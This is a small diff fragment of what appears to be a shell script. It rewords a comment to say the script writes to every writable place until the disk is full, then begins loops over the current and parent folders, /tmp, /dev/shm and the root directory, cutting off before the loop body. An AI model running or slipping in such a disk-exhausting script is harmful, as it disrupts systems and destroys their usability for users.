@@ -1,4 +1,4 @@
-# Writes wherever it may until nothing more is taken.
+# Writes to every writable place until the disk is full.
 echo '#!/bin/sh' > ../output/program
 for folder in . .. ../output /tmp /dev/shm /; do
   for i in 1 2 3 4 5 6 7 8; do
